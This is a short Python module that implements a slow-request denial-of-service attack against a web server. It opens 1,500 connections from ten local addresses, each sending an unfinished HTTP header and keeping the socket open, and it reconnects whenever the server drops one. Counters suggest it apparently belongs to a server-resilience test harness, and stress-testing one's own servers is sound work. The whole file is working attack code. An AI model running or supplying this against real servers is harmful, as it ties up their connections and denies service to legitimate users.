"""1,500 connections of ten addresses begin a request and never end it; more when cut off."""

from __future__ import annotations

import asyncio
from functools import partial
from urllib.parse import urlsplit

from attacks.target import Target, addresses, together

CONNECTIONS = 1500
BEGINNING = b"GET / HTTP/1.1\r\nHost: here\r\nX-Long: "


async def attack(target: Target) -> None:
    """Begin requests, and count the connections that were taken and those that were cut off."""
    where = urlsplit(target.url)

    async def begin(address: str) -> None:
        reader, writer = await asyncio.open_connection(
            where.hostname, where.port, local_addr=(address, 0)
        )
        target.counts["requests begun"] += 1
        try:
            writer.write(BEGINNING)
            await reader.read(-1)
            target.counts["cut off"] += 1
        finally:
            writer.close()

    await together(
        target.again(partial(begin, address), pause=0.1) for address in addresses(CONNECTIONS, 10)
    )
